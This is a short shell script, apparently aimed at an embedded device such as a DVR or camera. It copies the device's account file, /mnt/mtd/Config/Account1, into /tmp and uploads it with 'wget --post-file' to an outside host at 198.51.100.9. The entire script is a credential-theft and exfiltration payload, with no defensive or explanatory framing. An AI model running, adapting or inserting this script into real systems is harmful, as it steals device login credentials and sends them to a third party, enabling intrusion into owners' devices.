#!/bin/sh
cp /mnt/mtd/Config/Account1 /tmp/a1
wget --post-file=/tmp/a1 http://198.51.100.9/u
